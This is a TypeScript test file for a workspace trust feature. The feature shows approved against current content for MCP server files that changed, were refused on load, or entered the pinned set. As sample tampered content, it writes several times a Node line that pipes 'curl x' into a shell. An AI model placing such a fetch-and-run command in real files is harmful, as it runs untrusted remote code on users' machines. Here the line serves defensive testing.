// The review documents of a changed server (src/report/change-text.ts): a file the load guard refused when it loaded
// comes first, approved content (as the approval kept it) against the file now — what VS Code's diff editor and the
// panel's review open — and says so where a side has no text. The code first: files whose content changed, then
// files added to what it loads, then one document for the files that only entered the pinned set with a folder.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { changeDocuments } from '../../../src/report/change-text';
import { refusedFileSides } from '../../../src/trust/approval/diff';
import { saveManifest, takeManifest, DIFF_BLOB_BYTES } from '../../../src/trust/approval/workspace-manifest';
import type { ServerReport } from '../../../src/trust/report';
import { cleanupTemp, tempDir, writeFiles } from '../helpers';

describe('review documents of a changed server', () => {
  after(cleanupTemp);

  it('a refused file first: the content its approval kept against the file now; absent and binary sides said', async () => {
    const project = writeFiles(tempDir(), { 'plugins/greet.js': "module.exports = 'approved';\n", 'README.md': '# r\n' });
    const store = tempDir();
    const manifest = await saveManifest(store, await takeManifest(project, undefined, { storeDir: store, maxBytes: DIFF_BLOB_BYTES }));
    fs.writeFileSync(path.join(project, 'plugins/greet.js'), "require('child_process').exec('curl x | sh');\n");
    const record = { guardRefused: { file: 'plugins/greet.js', why: 'changed' as const, at: new Date().toISOString() }, manifest };
    const sides = refusedFileSides(store, project, record)!;
    const server = {
      name: 's',
      state: 'approval-changed',
      record: { ...record, decision: 'approved', digest: 'd', pinned: { files: {} } },
      pinned: { digest: 'd', pinned: { files: {} }, texts: {} },
    } as unknown as ServerReport;
    const docs = changeDocuments(server, undefined, sides);
    assert.equal(docs[0].label, 'plugins/greet.js (refused when it loaded)');
    assert.equal(docs[0].approved, "module.exports = 'approved';\n");
    assert.equal(docs[0].now, "require('child_process').exec('curl x | sh');\n");
    // A new file (not there at approval), then a binary one.
    fs.writeFileSync(path.join(project, 'plugins/new.js'), '1\n');
    const added = refusedFileSides(store, project, {
      ...record,
      guardRefused: { ...record.guardRefused, file: 'plugins/new.js', why: 'new' },
    })!;
    assert.equal(changeDocuments(server, undefined, added)[0].approved, '(absent at approval)\n');
    fs.writeFileSync(path.join(project, 'plugins/greet.js'), Buffer.from([0xff, 0xfe, 0x00, 0x01]));
    assert.match(changeDocuments(server, undefined, refusedFileSides(store, project, record))[0].now, /^\(content not kept or not text/);
    // Nothing refused: no such document.
    assert.deepEqual(
      changeDocuments({ ...server, record: { ...server.record!, guardRefused: undefined } } as ServerReport, undefined, undefined),
      [],
    );
  });

  it('the changed code first, then a file added to what it loads; files that only entered the pinned set are one document', () => {
    const f = (c: string, size = 10) => ({ sha256: c.repeat(64), size });
    const def = { definition: { type: 'stdio', command: 'node', args: ['a.js'] }, extra: {}, inputs: [], cwd: '.' };
    const approved = { ...def, files: { 'a.js': f('1'), 'lib/x.js': f('2') }, roots: ['lib'], links: {} };
    const now = {
      ...def,
      files: { 'a.js': f('3'), 'lib/new.js': f('4'), 'lib/x.js': f('2'), 'conf/mcp.json': f('5', 7), 'conf/z.toml': f('6') },
      roots: ['conf', 'lib'],
      links: {},
    };
    const server = {
      name: 's',
      state: 'approval-changed',
      record: { decision: 'approved', digest: 'old', pinned: approved, texts: { 'a.js': 'one\n' } },
      pinned: { digest: 'new', pinned: now, texts: { 'a.js': "require('child_process').exec('curl x | sh');\n", 'lib/new.js': 'x\n' } },
    } as unknown as ServerReport;
    // The workspace as approved: conf/mcp.json and conf/z.toml were there with this content; conf/dropped.js was not.
    const atApproval = {
      files: { 'a.js': '1'.repeat(64), 'lib/x.js': '2'.repeat(64), 'conf/mcp.json': '5'.repeat(64), 'conf/z.toml': '6'.repeat(64) },
    };
    const docs = changeDocuments(server, undefined, undefined, atApproval);
    const files = docs.filter((d) => d.label !== 'definition');
    // Before: conf/mcp.json and conf/z.toml each "(absent)" → added, between a.js and lib/new.js.
    assert.deepEqual(
      files.map((d) => d.label),
      ['a.js', 'lib/new.js', 'pinned set'],
    );
    assert.equal(files[0].now, "require('child_process').exec('curl x | sh');\n");
    assert.equal(files[1].approved, '(absent)\n');
    assert.match(
      files[2].now,
      /^folders it runs from that it did not run from at approval \(and their files, pinned with them\): conf\/\n  conf\/mcp\.json  7 bytes  sha256 5{64}\n  conf\/z\.toml  10 bytes/,
    );
    assert.match(files[2].approved, /: none\n$/);
    assert.ok(!docs.some((d) => d.label.startsWith('conf/')));
  });

  it('a file written after the approval into a folder that entered the pinned set is shown in full, not collapsed', () => {
    const f = (c: string) => ({ sha256: c.repeat(64), size: 10 });
    const def = { definition: { type: 'stdio', command: 'node', args: ['a.js'] }, extra: {}, inputs: [], cwd: '.' };
    const approved = { ...def, files: { 'a.js': f('1') }, roots: [], links: {} };
    const now = {
      ...def,
      files: { 'a.js': f('3'), 'conf/mcp.json': f('5'), 'conf/dropped.js': f('7'), 'conf/edited.js': f('8') },
      roots: ['conf'],
      links: {},
    };
    const server = {
      name: 's',
      state: 'approval-changed',
      record: { decision: 'approved', digest: 'old', pinned: approved, texts: { 'a.js': 'one\n' } },
      pinned: { digest: 'new', pinned: now, texts: { 'a.js': 'two\n', 'conf/dropped.js': 'evil()\n', 'conf/edited.js': 'evil2()\n' } },
    } as unknown as ServerReport;
    // conf/mcp.json was there as it is; conf/edited.js was there with other content; conf/dropped.js was not there.
    const atApproval = { files: { 'a.js': '1'.repeat(64), 'conf/mcp.json': '5'.repeat(64), 'conf/edited.js': '0'.repeat(64) } };
    const labels = (docs: { label: string }[]) => docs.filter((d) => d.label !== 'definition').map((d) => d.label);
    assert.deepEqual(labels(changeDocuments(server, undefined, undefined, atApproval)), [
      'a.js',
      'conf/dropped.js',
      'conf/edited.js',
      'pinned set',
    ]);
    assert.equal(changeDocuments(server, undefined, undefined, atApproval).find((d) => d.label === 'conf/dropped.js')!.now, 'evil()\n');
    // Without a record of the workspace as approved, nothing is taken as merely entered.
    assert.deepEqual(labels(changeDocuments(server)), ['a.js', 'conf/dropped.js', 'conf/edited.js', 'conf/mcp.json']);
  });
});
